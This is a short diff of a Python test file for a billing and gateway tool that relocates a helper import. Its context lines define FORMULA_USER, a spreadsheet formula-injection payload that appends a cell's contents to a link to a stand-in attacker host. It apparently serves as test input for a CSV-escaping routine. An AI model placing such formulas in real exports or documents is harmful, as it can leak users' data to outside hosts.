@@ -14,7 +14,6 @@ from typing import Any
 
 import pytest
 from test_billing_report import sealed_record
-from test_consumer_support import make_signer, record_body, unsealed_body
 
 from gateway.billing.report import build_report
 from gateway.cli import main
@@ -22,6 +21,7 @@ from gateway.cloud.cloudstore import open_cloud_store
 from gateway.cloud.consumer import SessionConsumer
 from gateway.records import GENESIS, seal
 from gateway.safeout import csv_cell, printable
+from tests.support.consumer import make_signer, record_body, unsealed_body
 
 SITE = "depot-7"
 FORMULA_USER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
